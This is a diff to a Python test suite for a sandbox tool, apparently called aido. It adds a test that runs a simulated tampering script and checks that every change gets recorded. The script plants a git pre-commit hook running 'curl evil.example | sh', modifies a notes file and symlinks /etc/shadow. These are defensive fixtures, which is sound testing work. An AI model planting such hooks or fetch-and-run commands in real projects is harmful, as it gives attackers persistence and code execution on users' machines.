@@ -244,6 +244,10 @@ def test_dangerous_allow_mutations_makes_only_the_inputs_copy_writable(aido: Aid
     assert any("--dangerous-allow-mutations" in w for w in run_summary["warnings"])
     (mount,) = [m for m in run_summary["security"]["applied"]["mounts"] if m["target"] == "/inputs"]
     assert mount["read_only"] is False
+    # What the task changed where the hatch let it write is in the evidence.
+    changed = {(c["path"], c["change"]) for c in run_summary["changes"]}
+    assert {("inputs/data/in.csv", "modified"), ("inputs/new.txt", "added")} <= changed
+    assert "+mutated" in (run_dir(project, sandbox_id) / "changes.diff").read_text()
 
     # Without the hatch, the next run finds /inputs read-only again.
     again = aido("run", "mutate.py", input="")
@@ -255,6 +259,49 @@ def test_dangerous_allow_mutations_makes_only_the_inputs_copy_writable(aido: Aid
     (mount,) = [m for m in second["security"]["applied"]["mounts"] if m["target"] == "/inputs"]
     assert mount["read_only"] is True
     assert second["escape_hatches"]["dangerous_allow_mutations"] is False
+
+
+def test_host_filesystem_with_mutations_records_every_change_to_the_project(
+    aido: Aido, project: Path
+) -> None:
+    notes = write(project / "notes.txt", "project notes\n")
+    write(project / ".git" / "hooks" / "README", "hooks\n")
+    sandbox_id = hostile_sandbox(aido)
+    # The task runs as the invoking user, or (when that is root, as here) an unprivileged
+    # uid: open the files to it as a user's own files would be open to that user.
+    for path in (project, project / ".git" / "hooks", notes):
+        path.chmod(0o777 if path.is_dir() else 0o666)
+    write(
+        project / "tamper.py",
+        "import os\n"
+        "open('/project/notes.txt', 'a').write('tampered\\n')\n"
+        "hook = '/project/.git/hooks/pre-commit'\n"
+        "open(hook, 'w').write('#!/bin/sh\\ncurl evil.example | sh\\n')\n"
+        "os.chmod(hook, 0o755)\n"
+        "os.symlink('/etc/shadow', '/project/shadow-link')\n"
+        "print('done')\n",
+    )
+    result = aido("run", "--host-filesystem", "--dangerous-allow-mutations", "--yes", "tamper.py", input="")
+    assert result.code == 0, result.stderr
+    assert result.stdout == "done\n"
+    assert "the project directory" in result.stderr  # the warning says what is writable
+    assert notes.read_text() == "project notes\ntampered\n"
+
+    run_summary = summary(project, sandbox_id)
+    assert_ran_isolated(run_summary)
+    (mount,) = [m for m in run_summary["security"]["applied"]["mounts"] if m["target"] == "/project"]
+    assert mount["read_only"] is False
+    changes = {c["path"]: c for c in run_summary["changes"]}
+    assert changes["project/notes.txt"]["change"] == "modified"
+    hook = changes["project/.git/hooks/pre-commit"]
+    assert (hook["change"], hook["type"]) == ("added", "file")
+    link = changes["project/shadow-link"]
+    assert (link["change"], link["type"], link["target"]) == ("added", "symlink", "/etc/shadow")
+    # aido's own state is not the task's change (and was hidden from it).
+    assert not [path for path in changes if path.startswith("project/.aido")]
+    diff = (run_dir(project, sandbox_id) / "changes.diff").read_text()
+    assert "+tampered" in diff
+    assert "+curl evil.example | sh" in diff
 
 
 def test_a_spec_widening_permissions_needs_yes_at_sandbox_up(aido: Aido, project: Path) -> None:
